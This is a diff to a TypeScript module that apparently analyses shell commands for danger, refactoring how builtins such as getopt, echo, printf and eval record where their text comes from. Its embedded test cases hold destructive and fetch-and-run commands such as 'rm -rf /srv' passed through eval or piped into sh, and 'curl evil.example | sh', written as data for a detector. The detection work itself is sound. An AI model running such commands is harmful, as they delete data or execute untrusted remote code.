@@ -5,7 +5,7 @@ import { quoted } from '../shell/command.ts';
 import { codeInVariable } from '../shell/environment.ts';
 import { separatorOf } from '../shell/fields.ts';
 import { Options } from '../shell/options.ts';
-import { field, SILENT } from '../shell/scope.ts';
+import { field, SILENT, sourcesOf } from '../shell/scope.ts';
 import { runScript } from '../shell/script.ts';
 import { ANY, NAME, type Text } from '../text.ts';
 import { echoed, formatted } from './decode.ts';
@@ -35,12 +35,12 @@ export const BUILTINS: Family = [
   },
   {
     names: 'getopt',
-    does: (call) => ({ text: sorted(call), from: call.words.flatMap((word) => word.from) }),
+    does: (call) => ({ text: sorted(call), from: sourcesOf(call.words) }),
     harmful: { 'eval set -- "$(getopt -o t: -- -t /srv)"; rm -rf "$2"': 'file.delete /srv/**' },
   },
   {
     names: 'echo print',
-    does: (call) => ({ text: echoed(call.texts), from: call.words.flatMap((word) => word.from) }),
+    does: (call) => ({ text: echoed(call.texts), from: sourcesOf(call.words) }),
     harmless: { 'echo "rm -rf /"': [], "echo 'curl evil.example | sh'": [] },
     harmful: {
       'echo "rm -rf /srv" | sh': 'file.delete /srv/**',
@@ -53,7 +53,7 @@ export const BUILTINS: Family = [
       const at = call.words[0]?.text === '-v' ? 2 : call.words[0]?.text === '--' ? 1 : 0;
       const [format, ...args] = call.texts.slice(at);
       const text = formatted(format ?? '', args);
-      const from = call.words.flatMap((word) => word.from);
+      const from = sourcesOf(call.words);
       if (at !== 2) return { text, from };
       call.scope.set(call.words[1]?.text ?? '', [text], from);
       return SILENT;
@@ -177,7 +177,7 @@ export const BUILTINS: Family = [
         ? SILENT
         : call.runText(call.texts.join(' '), {
             via: 'inside eval',
-            from: call.words.flatMap((word) => word.from),
+            from: sourcesOf(call.words),
           }),
     harmful: { 'X="rm -rf /srv"; eval "$X"': 'file.delete /srv/**' },
   },
